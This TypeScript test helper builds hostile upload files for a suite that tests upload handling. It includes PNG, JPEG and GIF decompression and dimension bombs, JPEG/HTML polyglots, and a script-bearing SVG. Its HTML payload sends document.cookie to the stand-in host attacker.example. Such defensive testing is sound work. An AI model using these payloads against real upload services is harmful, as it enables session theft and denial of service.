// Test-only: hostile upload files built byte by byte at test time, so no binary fixture (and no
// real exploit) is committed. Used by the hostile uploads corpus suite.
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A small, real PNG (8 × 8 grey). */
export function smallPng(): Promise<Buffer> {
  return sharp({ create: { width: 8, height: 8, channels: 3, background: '#808080' } })
    .png()
    .toBuffer();
}

/** A small, real baseline JPEG (16 × 16 grey). */
export function smallJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 16, height: 16, channels: 3, background: '#808080' } })
    .jpeg()
    .toBuffer();
}

/** One PNG chunk: length, type, data and the CRC over type + data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A real PNG with a text chunk inserted right after IHDR whose zlib stream inflates to
 * `inflatedBytes` of text (a few hundred KB on the wire): `zTXt` or compressed `iTXt`.
 */
export async function pngTextBomb(kind: 'zTXt' | 'iTXt', inflatedBytes: number): Promise<Buffer> {
  const png = await smallPng();
  const compressed = deflateSync(Buffer.alloc(inflatedBytes, 'A'), { level: 9 });
  const data =
    kind === 'zTXt'
      ? // keyword NUL, compression method 0, zlib stream
        Buffer.concat([Buffer.from('Comment\0', 'latin1'), Buffer.from([0]), compressed])
      : // keyword NUL, compression flag 1, method 0, language tag NUL, translated keyword NUL
        Buffer.concat([
          Buffer.from('Comment\0', 'latin1'),
          Buffer.from([1, 0]),
          Buffer.from('en\0\0', 'latin1'),
          compressed,
        ]);
  // Signature (8) + IHDR chunk (4 + 4 + 13 + 4) = 33 bytes.
  return Buffer.concat([png.subarray(0, 33), pngChunk(kind, data), png.subarray(33)]);
}

/** A real JPEG whose frame header (SOF0) claims `width` × `height` (at most 65535 each). */
export async function jpegBomb(width = 65_535, height = 65_535): Promise<Buffer> {
  const jpeg = Buffer.from(await smallJpeg());
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker in the generated JPEG');
  // FFC0, length (2), precision (1), height (2), width (2).
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

/**
 * A 1 × 1 GIF89a with `frames` image frames, 15 bytes each (so 100,000 frames is 1.5 MB): each
 * frame is an image descriptor and a 3-code LZW stream (clear, index 0, end).
 */
export function manyFrameGif(frames: number): Buffer {
  const header = Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    // Logical screen 1 × 1, global colour table of 2 entries, background 0, aspect 0.
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0]),
    Buffer.from([0, 0, 0, 255, 255, 255]),
  ]);
  const frame = Buffer.from([
    // Image descriptor: separator, left, top, width 1, height 1, no local colour table.
    0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0,
    // LZW minimum code size 2; one 2-byte sub-block (codes 4, 0, 5 at 3 bits); terminator.
    2, 2, 0x44, 0x01, 0,
  ]);
  const body = Buffer.alloc(frame.length * frames);
  for (let i = 0; i < frames; i++) frame.copy(body, i * frame.length);
  return Buffer.concat([header, body, Buffer.from([0x3b])]);
}

export const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
  <script>fetch('/api/users/me').then((r) => r.text()).then(alert)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
`;

export const HTML_PAGE = `<!doctype html>
<html><head><title>x</title></head>
<body><script>document.location = 'https://attacker.example/?c=' + document.cookie</script></body>
</html>
`;

/** A JPEG's first bytes (SOI and the JFIF APP0 segment) followed by an HTML page. */
export async function jpegHeaderThenHtml(): Promise<Buffer> {
  const jpeg = await smallJpeg();
  // SOI (2) + APP0 marker (2) + its length field, which counts itself.
  const app0End = 4 + jpeg.readUInt16BE(4);
  return Buffer.concat([jpeg.subarray(0, app0End), Buffer.from(HTML_PAGE)]);
}

/** A whole, decodable JPEG with an HTML page appended after its end marker. */
export async function jpegThenHtml(): Promise<Buffer> {
  return Buffer.concat([await smallJpeg(), Buffer.from(HTML_PAGE)]);
}

/** A minimal one-page PDF. */
export const PDF = Buffer.from(
  `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >> endobj
trailer << /Root 1 0 R >>
%%EOF
`,
  'latin1',
);

/** A ZIP archive holding one stored (uncompressed) file, built by hand. */
export function zipArchive(): Buffer {
  const name = Buffer.from('photo.jpg');
  const content = Buffer.from('not really a photo');
  const crc = crc32(content) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}

/** The first half of a real JPEG: its header is whole, its scan data is cut off. */
export async function truncatedJpeg(): Promise<Buffer> {
  // Noise, so that most of the file is scan data and the cut falls inside it.
  const jpeg = await sharp({
    create: {
      width: 128,
      height: 128,
      channels: 3,
      background: '#336699',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length / 2));
}
